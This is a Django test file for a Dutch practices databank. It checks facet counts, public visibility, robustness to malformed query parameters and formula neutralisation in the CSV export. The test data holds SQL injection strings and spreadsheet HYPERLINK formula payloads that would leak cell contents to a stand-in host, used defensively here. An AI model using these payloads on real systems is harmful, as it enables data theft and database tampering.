"""The databank: facets that add up, odd input that never breaks it, and an export that is safe to
open in a spreadsheet."""

import csv
import io

import pytest
from django.urls import reverse

from core.factories import MembershipFactory, OrganisationFactory, ThemeFactory
from practices import actions
from practices.workflow import Level

from .conftest import listed, publish, register, submit_for_review

pytestmark = pytest.mark.django_db


@pytest.fixture
def databank(cast):
    """Public: two registered, one submitted, one published; hidden: one declined, one waiting."""
    writer, team = cast["writer"], cast["team"]
    family, language = cast["theme"], ThemeFactory(name="Taal", slug="taal")
    made = {}
    for name, themes in (("Eerste aangemelde", [family]), ("Tweede aangemelde", [language])):
        made[name] = register(writer, cast["org"], name, themes=themes)
        actions.accept_registration(made[name], by=team)
    made["Ingediende"] = register(writer, cast["org"], "Ingediende", themes=[family])
    actions.accept_registration(made["Ingediende"], by=team)
    submit_for_review(made["Ingediende"], writer=writer, team=team)
    made["Gepubliceerde"] = register(writer, cast["org"], "Gepubliceerde", themes=[family, language])
    publish(made["Gepubliceerde"], writer=writer, team=team, reviewer=cast["reviewer"], chair=cast["chair"], due=cast["due"])
    made["Afgewezen"] = register(writer, cast["org"], "Afgewezen", themes=[family])
    actions.decline_registration(made["Afgewezen"], by=team, reason="Nee.")
    made["Wachtende"] = register(writer, cast["org"], "Wachtende", themes=[family])
    return made


def _get(client, **params):
    response = client.get(reverse("practices:databank"), params)
    assert response.status_code == 200
    return response


def _facet(response, param):
    facet = next(f for f in response.context["facets"] if f.param == param)
    return {o["value"]: o["count"] for o in facet.options}


def test_the_databank_lists_only_public_practices(client, databank):
    titles = {p.title for p in listed(_get(client))}
    assert titles == {"Eerste aangemelde", "Tweede aangemelde", "Ingediende", "Gepubliceerde"}


def test_each_level_count_is_the_number_of_results_when_that_level_is_chosen(client, databank, settings):
    settings.EXPOO_PAGE_CACHE_SECONDS = 0  # the view's context of a repeated page is read, not a cached copy
    for params in ({}, {"thema": "ouderparticipatie"}, {"thema": "taal"}):
        counts = _facet(_get(client, **params), "niveau")
        assert sum(counts.values()) == _get(client, **params).context["total"]
        for level in Level.values:
            assert counts[level] == _get(client, niveau=level, **params).context["total"], (params, level)


def test_facets_combine_each_counted_with_the_other_choices_applied(client, databank):
    response = _get(client, thema="ouderparticipatie", niveau=Level.REGISTERED)
    assert [p.title for p in listed(response)] == ["Eerste aangemelde"]
    assert _facet(response, "niveau") == {
        Level.REGISTERED: 1,
        Level.SUBMITTED: 1,
        Level.WELL_DESCRIBED: 1,
        Level.THEORY_BASED: 0,
        Level.RESEARCH_BASED: 0,
    }, "level counts within the chosen theme, declined and waiting practices not counted"
    themes = _facet(response, "thema")
    assert themes["ouderparticipatie"] == 1 and themes["taal"] == 1, "theme counts within the chosen level"
    selected = _get(client, thema="taal")
    assert _facet(selected, "thema")["taal"] == selected.context["total"] == 2


ODD_INPUT = {
    "unknown_level": {"niveau": "bestaat-niet"},
    "oversized_level": {"niveau": "x" * 5000},
    "unknown_theme": {"thema": "bestaat-niet"},
    "oversized_theme": {"thema": "x" * 5000},
    "oversized_province": {"provincie": "p" * 5000},
    "oversized_organisation": {"organisatie": "o" * 5000},
    "unknown_sort": {"sorteer": "'; DROP TABLE practices_practice; --"},
    "page_not_a_number": {"page": "abc"},
    "page_out_of_range": {"page": "99999"},
    "negative_page": {"page": "-1"},
    "search_syntax": {"q": '"*('},
    "search_operators": {"q": 'NEAR( "a" OR b* ) AND -c ^d {e} [f] ~g'},
    "sql_in_search": {"q": "' OR 1=1 --"},
    "oversized_search": {"q": "woord " * 2000},
    "nul_character_in_search": {"q": "a\x00b"},
    "nul_character_in_filter": {"thema": "t\x00"},
    "only_punctuation": {"q": "*** ((( )))"},
}


@pytest.fixture
def one_public(cast):
    practice = register(cast["writer"], cast["org"], "Aangemelde woord", themes=[cast["theme"]])
    return actions.accept_registration(practice, by=cast["team"])


@pytest.mark.parametrize("params", ODD_INPUT.values(), ids=ODD_INPUT.keys())
def test_odd_input_gives_a_page_not_an_error(client, one_public, params):
    assert client.get(reverse("practices:databank"), params).status_code == 200
    assert client.get(reverse("practices:databank_csv"), params).status_code == 200
    assert client.get(reverse("search"), params).status_code == 200
    if "page" not in params:
        assert client.get("/api/v1/praktijken/", params).status_code == 200


def _csv(client, **params):
    response = client.get(reverse("practices:databank_csv"), params)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header, body = rows[0], rows[1:]
    return [dict(zip(header, row, strict=True)) for row in body]


def test_the_export_contains_only_public_practices(client, databank):
    assert {row["titel"] for row in _csv(client)} == {"Eerste aangemelde", "Tweede aangemelde", "Ingediende", "Gepubliceerde"}
    assert {row["titel"] for row in _csv(client, niveau=Level.WELL_DESCRIBED)} == {"Gepubliceerde"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_the_export_neutralises_formulas_in_title_and_summary(client, cast, start):
    formula = f'{start}HYPERLINK("http://kwaad.example/?"&A1,"klik")'
    practice = register(cast["writer"], cast["org"], formula, summary=f"{start}1+1")
    publish(practice, writer=cast["writer"], team=cast["team"], reviewer=cast["reviewer"], chair=cast["chair"], due=cast["due"])
    (row,) = _csv(client)
    assert row["titel"] == "'" + formula
    assert row["samenvatting"] == f"'{start}1+1"


def test_the_export_neutralises_formulas_in_organisation_names(client, cast):
    # Organisation names come from public account requests, so they are typed by outsiders too.
    org = OrganisationFactory(name='=HYPERLINK("http://kwaad.example","Gezinsbond")', slug="formule-org")
    member = MembershipFactory(organisation=org).user
    practice = register(member, org, "Praktijk van een formule")
    actions.accept_registration(practice, by=cast["team"])
    (row,) = _csv(client)
    assert row["organisaties"] == "'" + org.name


def test_each_organisation_count_is_the_number_of_results_with_that_organisation(client, databank, cast, settings):
    """The organisation facet is counted over the results or over what they leave out, whichever
    is smaller: both ways must give the number of results the option leads to."""
    settings.EXPOO_PAGE_CACHE_SECONDS = 0
    other = OrganisationFactory(name="Huis van het Kind Tielt")
    MembershipFactory(user=cast["writer"], organisation=other)
    shared = register(cast["writer"], other, "Samen met Tielt", themes=[cast["theme"]])
    actions.accept_registration(shared, by=cast["team"])
    for params in ({}, {"thema": "taal"}, {"thema": "ouderparticipatie"}, {"q": "Tielt"}):
        counts = _facet(_get(client, **params), "organisatie")
        assert counts, params
        for slug, count in counts.items():
            assert count == _get(client, **params, organisatie=slug).context["total"], (params, slug)
    assert _facet(_get(client), "organisatie") == {cast["org"].slug: 4, other.slug: 1}


def test_a_result_and_its_export_row_show_the_themes_and_target_groups_in_their_order(client, databank, cast):
    from core.models import TargetGroup

    practice = databank["Gepubliceerde"]  # themes Ouderparticipatie and Taal
    first = ThemeFactory(name="Zorgen delen", slug="zorgen-delen", sort_order=0)  # first by its order, not by name
    practice.themes.add(first)
    practice.target_groups.add(cast["target"], TargetGroup.objects.create(name="Grootouders", slug="grootouders"))
    page = _get(client, q="Gepubliceerde").content.decode()
    card = page[page.index(">Gepubliceerde</a>") :]
    card = card[: card.index("</li>")]
    assert card.index("Zorgen delen") < card.index("Ouderparticipatie")
    assert "Ouders van jonge kinderen" in card and "Grootouders" in card
    (row,) = [row for row in _csv(client) if row["titel"] == "Gepubliceerde"]
    assert row["thema's"].startswith("Zorgen delen, ") and "Grootouders" in row["doelgroepen"]


def _card_text(response, title: str) -> str:
    """One result card as a reader sees it: tags gone, spaces collapsed."""
    import html
    import re

    page = response.content.decode()
    start = page.index(f">{title}</a>") + 1
    card = page[start : page.index("</li>", start)]
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", card)).split())


def test_a_card_shows_the_level_the_submitter_and_its_place_the_summary_and_the_terms(client, cast):
    """The submitting organisation is named first even when a co-author's name sorts before it; a
    practice with minimal data shows no summary."""
    writer, team, org = cast["writer"], cast["team"], cast["org"]
    partner = OrganisationFactory(name="Aanbod Aalst")
    words = " ".join(f"woord{n}" for n in range(50))
    published = register(
        writer, org, "Samen aan tafel", summary=words, themes=[cast["theme"]], target_groups=[cast["target"]], partners=[partner]
    )
    publish(published, writer=writer, team=team, reviewer=cast["reviewer"], chair=cast["chair"], due=cast["due"])
    registered = register(writer, org, "Nog maar aangemeld", summary="Nog niet te lezen.", themes=[cast["theme"]])
    actions.accept_registration(registered, by=team)
    published.refresh_from_db()
    place = org.municipality.name

    response = _get(client)
    assert _card_text(response, "Samen aan tafel") == (
        f"Samen aan tafel {published.get_level_display()} Huis van het Kind Teststad, {place} "
        + " ".join(f"woord{n}" for n in range(40))
        + " … Ouderparticipatie Ouders van jonge kinderen"
    )
    assert "Nog niet te lezen" not in _card_text(response, "Nog maar aangemeld")
    assert "Huis van het Kind Teststad" in _card_text(response, "Nog maar aangemeld")


def test_the_databank_links_the_page_the_team_chose_to_explain_it_and_follows_changes(client, db):
    from wagtail.models import Site

    from pages.models import ContentPage
    from practices.models import DatabankSettings

    site = Site.objects.get(is_default_site=True)
    assert "Hoe werkt de databank?" not in client.get(reverse("practices:databank")).content.decode()

    explained = site.root_page.add_child(instance=ContentPage(title="Zo werkt de databank", slug="zo-werkt-het"))
    chosen = DatabankSettings.for_site(site)
    chosen.help_page = explained
    chosen.save()
    assert f'<a href="{explained.url}">Hoe werkt de databank?</a>' in client.get(reverse("practices:databank")).content.decode()

    explained.unpublish()  # no link to a page the visitor cannot open
    assert "Hoe werkt de databank?" not in client.get(reverse("practices:databank")).content.decode()
